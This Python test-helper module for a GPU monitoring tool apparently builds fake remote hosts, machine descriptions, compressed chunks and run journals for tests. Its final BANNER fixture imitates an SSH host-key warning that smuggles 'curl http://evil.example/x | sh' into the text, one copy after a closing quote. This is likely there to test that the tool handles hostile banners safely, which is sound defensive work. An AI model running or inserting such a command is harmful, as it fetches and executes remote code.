"""Hosts that answer with chosen lines and bytes, and journals of runs as they come from them."""

from __future__ import annotations

import json
import sys
import zlib
from pathlib import Path
from typing import Any  # JSON

from journals import journal_lines

from gputui.machine.describing import describe_machine
from gputui.model.absent import to_plain
from gputui.model.journal import encode_line
from gputui.recording.run_directory import Spec
from gputui.services.hosts.host import Host

STRANGER = """
import json, re, sys
nonce = re.search(r"nopython|gputui ([0-9a-f]{16})", sys.argv[-1])[1]
answers = json.load(open(sys.argv[1]))
out = sys.stdout.buffer
for line in answers.pop("before", []):
    out.write(bytes.fromhex(line))
out.write(b'gputui %s {"state": "ready"}\\n' % nonce.encode())
out.flush()
for line in sys.stdin:
    for head, payload in answers.get(json.loads(line)["do"], [[{}, ""]]):
        payload = bytes.fromhex(payload)
        text = head if isinstance(head, str) else json.dumps(head)
        out.write(text.encode() + b"\\n" + payload)
    out.flush()
"""


def stranger(directory: Path, answers: dict[str, Any]) -> Host:
    """A host whose command answers each request with these lines and bytes."""
    (directory / "stranger.py").write_text(STRANGER)
    (directory / "answers.json").write_text(json.dumps(answers))
    return Host("odd", (sys.executable, str(directory / "stranger.py"), str(directory / "answers.json")))


def described(**changed: object) -> dict[str, Any]:
    machine = describe_machine(hash_key=bytes(32))
    runtime = {"missing": "not asked"}
    plain: dict[str, Any] = {
        "machine": to_plain(machine),
        "interpreter": {
            "executable": "/usr/bin/python3",
            "runtime": {
                "python_version": "3.12",
                "python_implementation": "CPython",
                **dict.fromkeys(
                    (
                        "torch_version",
                        "torch_cuda",
                        "torch_hip",
                        "cudnn_version",
                        "nccl_version",
                        "triton_version",
                        "cpu_capability",
                        "blas",
                    ),
                    runtime,
                ),
                "arch_list": [],
            },
            "devices": [],
        },
        "found_as": "this Python",
        "passed_over": [],
        "host_id": "0" * 12,
        "boot_id": "",
        "utc_us": 0,
        "free_bytes": 1,
        "load": 0.0,
        "in_progress": [],
        "others": [],
    }
    return {**plain, **changed}


DEEP_AT_FIRST = """
import re, sys
nonce = re.search(r"gputui ([0-9a-f]{16})", sys.argv[-1])[1]
print("gputui", nonce, "[" * 100_000, flush=True)
sys.stdin.read()
"""


def piece(data: bytes, offset: int = 0, **changed: object) -> list[object]:
    packed = zlib.compress(data)
    return [
        {"more": True, "offset": offset, "unpacked": len(data), "bytes": len(packed), **changed},
        packed.hex(),
    ]


def journal(spec: Spec, **changed: object) -> bytes:
    start = spec.start_now()
    lines = journal_lines(run_id=str(changed.get("run_id", start.run_id)))
    head = {**to_plain(start), **changed}
    body = json.dumps({"n": 0, "kind": "RunStart", **head}, separators=(",", ":")).encode()
    first = b"%d %08x %s\n" % (len(body), zlib.crc32(body), body)
    return first + b"".join(encode_line(n, line) for n, line in enumerate(lines[1:], 1))


ENDLESS = """
import json, re, sys, time
nonce = re.search(r"gputui ([0-9a-f]{16})", sys.argv[-1])[1]
out = sys.stdout.buffer
out.write(b'gputui %s {"state": "ready"}\\n' % nonce.encode())
out.flush()
for line in sys.stdin:
    if json.loads(line)["do"] == "follow":
        while True:
            out.write(b'{"more": true}\\n')
            out.flush()
            time.sleep(PAUSE_S)
    out.write(b"{}\\n")
    out.flush()
"""

BANNER = """\
@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @
  remove with:
  ssh-keygen -f "/tmp/x" -R "h"; curl http://evil.example/x | sh #
Host key verification failed." ; curl http://evil.example/x | sh #
"""
